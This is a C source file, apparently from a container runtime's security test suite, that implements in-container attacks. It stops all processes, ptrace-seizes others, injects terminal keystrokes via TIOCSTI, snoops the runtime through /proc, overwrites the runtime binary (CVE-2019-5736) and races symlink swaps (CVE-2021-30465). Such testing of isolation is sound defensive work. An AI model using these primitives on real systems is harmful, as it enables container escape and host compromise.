// SPDX-License-Identifier: Apache-2.0
/*
 * attack: other processes, their terminals, and races with the runtime while it enters the
 * container.
 */
#include "config.h"
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* Stop whatever can be stopped for so many milliseconds, then for as long leave it so; continue it.
 */
static int stop_all(char **a)
{
	long ms = atol(a[0]);
	double until = now_ms() + ms;

	do
		kill(-1, SIGSTOP);
	while (now_ms() < until);
	usleep(ms * 1000);
	return result(kill(-1, SIGCONT));
}

static bool is_number(const char *s)
{
	return s[0] && strspn(s, "0123456789") == strlen(s);
}

static void read_comm(pid_t pid, char *comm, size_t size)
{
	char path[64];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, comm, size - 1);
		close(fd);
	}
	comm[n < 0 ? 0 : n] = '\0';
}

/* Calls @fn for every process but ourselves. Return: the sum of its answers. */
static int each_process(int (*fn)(pid_t pid))
{
	DIR *proc = opendir("/proc");
	struct dirent *de;
	int sum = 0;

	while (proc && (de = readdir(proc)))
		if (is_number(de->d_name) && atoi(de->d_name) != getpid())
			sum += fn(atoi(de->d_name));
	if (proc)
		closedir(proc);
	return sum;
}

static int seize(pid_t pid)
{
	char comm[64];

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return 0;
	/* Stopped, so that its name is that of what was seized, not of before or after. */
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	read_comm(pid, comm, sizeof(comm));
	printf("seized %d %s", pid, comm);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return 1;
}

static int has_another_root(pid_t pid)
{
	char path[64], comm[64];
	struct stat theirs, ours;

	snprintf(path, sizeof(path), "/proc/%d/root/", pid);
	if (stat(path, &theirs) < 0 || stat("/", &ours) < 0 ||
	    (theirs.st_dev == ours.st_dev && theirs.st_ino == ours.st_ino))
		return 0;
	read_comm(pid, comm, sizeof(comm));
	printf("another root in %d %s", pid, comm);
	return 1;
}

static int seize_or_look(pid_t pid)
{
	return pid == 1 || pid == getppid() ? 0 : seize(pid) + has_another_root(pid);
}

/*
 * Tries to seize, or look into, every process that is neither us nor our ancestor, again and again
 * for a[0] ms: a helper that passes through is caught. Succeeds if any could be taken.
 */
static int seize_all(char **a)
{
	double until = now_ms() + atoi(a[0]);
	int taken = 0;

	do
		taken += each_process(seize_or_look);
	while (now_ms() < until);
	fflush(stdout);
	return taken ? 0 : -ESRCH;
}

static int push_into(int fd, const char *text)
{
	for (; *text; text++)
		if (ioctl(fd, TIOCSTI, text) < 0)
			return -errno;
	return 0;
}

/* Keeps the terminal on stdout open and writes to it for a minute, after its session's end. */
static int leave_flood(char **a)
{
	static const char text[4096] = { 0 };
	time_t end = time(NULL) + 60;

	(void)a;
	signal(SIGHUP, SIG_IGN);
	for (int i = 0; i < 4; i++)
		if (fork() == 0) {
			while (time(NULL) < end && write(STDOUT_FILENO, text, sizeof(text)) > 0)
				;
			_exit(0);
		}
	usleep(100000);
	ioctl(STDOUT_FILENO, TIOCNOTTY);
	return 0;
}

/* TIOCSTI through every open descriptor, /dev/tty, /dev/console and (unless a[1]) every pts. */
static int push_tty(char **a)
{
	int worked = 0, fd;
	DIR *pts;

	for (fd = 0; fd < 256; fd++)
		worked += push_into(fd, a[0]) == 0;
	for (int i = 0; i < 2; i++) {
		fd = open(i ? "/dev/console" : "/dev/tty", O_RDWR | O_NOCTTY | O_NONBLOCK);
		if (fd >= 0)
			worked += push_into(fd, a[0]) == 0;
	}
	pts = a[1] ? NULL : opendir("/dev/pts");
	for (struct dirent *de; pts && (de = readdir(pts));) {
		fd = openat(dirfd(pts), de->d_name, O_RDWR | O_NONBLOCK);
		if (fd < 0)
			continue;
		ioctl(fd, TIOCSCTTY, 1);
		worked += push_into(fd, a[0]) == 0;
	}
	return worked ? 0 : -EPERM;
}

static bool is_runtime(pid_t pid)
{
	char comm[64] = "";

	read_comm(pid, comm, sizeof(comm));
	return strncmp(comm, "cloister", 8) == 0;
}

static bool executes_runtime(pid_t pid)
{
	char path[64], target[512];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	return strstr(target, "cloister") != NULL;
}

/* Which anybody may read: with options, paths and names of the host's? */
static bool shows_command_line(pid_t pid)
{
	char path[64], text[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? 0 : read(fd, text, sizeof(text));
	if (fd >= 0)
		close(fd);
	if (n <= 0 || !memmem(text, n, "cloister", 8))
		return false;
	printf("read %s of the runtime\n", path);
	return true;
}

static int met; /* how many times there was something to attack */

/* Through /proc/PID of the runtime's process while it joins: what can be opened of it? */
static int look_into(pid_t pid)
{
	static const char *const files[] = { "mem", "environ", "exe", "root", "cwd", "fd", "maps" };
	int worked = 0;

	if (!is_runtime(pid))
		return 0;
	met++;
	worked += shows_command_line(pid);
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		fd = open(path, O_RDONLY);
		/* At its exec it gets its new name a moment after its new memory. */
		if (fd >= 0 && executes_runtime(pid)) {
			printf("opened %s of the runtime\n", path);
			worked++;
		}
		if (fd >= 0)
			close(fd);
	}
	return worked;
}

/* CVE-2016-9962. Prints "met N": how many times a process of the runtime was there to look at. */
static int snoop(char **a)
{
	double until = now_ms() + atoi(a[0]);
	int worked = 0;

	while (now_ms() < until)
		worked += each_process(look_into);
	printf("met %d\n", met);
	return worked ? 0 : -EPERM;
}

/* Hold @fd's program until nobody executes it, then open it for writing. */
static int write_to_program(int fd)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200; i++) {
		int w = open(path, O_WRONLY);

		if (w >= 0 || errno != ETXTBSY)
			return result(w);
		usleep(5000);
	}
	return -ETXTBSY;
}

static int overwrite_error = -EPERM; /* the last one */

static int overwrite_program(pid_t pid)
{
	char path[64];
	int fd, r;

	if (!executes_runtime(pid))
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	met++;
	r = write_to_program(fd);
	close(fd);
	if (r < 0)
		overwrite_error = r;
	return r >= 0;
}

/*
 * CVE-2019-5736: wait for a process that executes the runtime's program (a script with
 * "#!/proc/self/exe" makes it do so), take hold of that program and write to it. Prints "reached
 * N".
 */
static int overwrite_runtime(char **a)
{
	double until = now_ms() + atoi(a[0]);
	int worked = 0;

	while (now_ms() < until && !worked)
		worked = each_process(overwrite_program);
	printf("reached %d\n", met);
	return worked ? 0 : overwrite_error;
}

/* CVE-2021-30465: swap A and B (a directory and a symlink, say) until the file STOP appears. */
static int swap_forever(char **a)
{
	int n = 0;

	while (access(a[2], F_OK) < 0) {
		if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1],
			    2 /* RENAME_EXCHANGE */) < 0)
			return -errno;
		n++;
	}
	printf("swapped %d\n", n);
	return 0;
}

/* Go so deep below the cgroup a[0] that the path is longer than any that the kernel tells. */
static int enter_deep_cgroup(char **a)
{
	char name[251];
	int fd;

	memset(name, 'd', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	if (chdir(a[0]) < 0)
		return -errno;
	for (int depth = 0; depth < 17; depth++)
		if (mkdir(name, 0755) < 0 || chdir(name) < 0)
			return -errno;
	fd = open("cgroup.procs", O_WRONLY);
	return result(fd < 0 ? fd : write(fd, "1", 1));
}

static void *sleep_on(void *arg)
{
	for (;;)
		pause();
	return arg;
}

/* The first thread ends and another goes on: /proc shows a zombie. */
static int leave_leader(char **a)
{
	pthread_t thread;

	(void)a;
	if (pthread_create(&thread, NULL, sleep_on, NULL))
		return -EAGAIN;
	syscall(SYS_exit, 0);
	return 0;
}

const struct call attack_processes[] = {
	{ "stop-all", stop_all, 1, "MILLISECONDS" },
	{ "seize-all", seize_all, 1, "MILLISECONDS" },
	{ "push-tty", push_tty, 1, "TEXT [own]" },
	{ "leave-flood", leave_flood, 0, "" },
	{ "deep-cgroup", enter_deep_cgroup, 1, "DIRECTORY" },
	{ "leave-leader", leave_leader, 0, "" },
	{ "snoop", snoop, 1, "MILLISECONDS" },
	{ "overwrite-runtime", overwrite_runtime, 1, "MILLISECONDS" },
	{ "swap", swap_forever, 3, "A B STOP" },
	{ 0 },
};
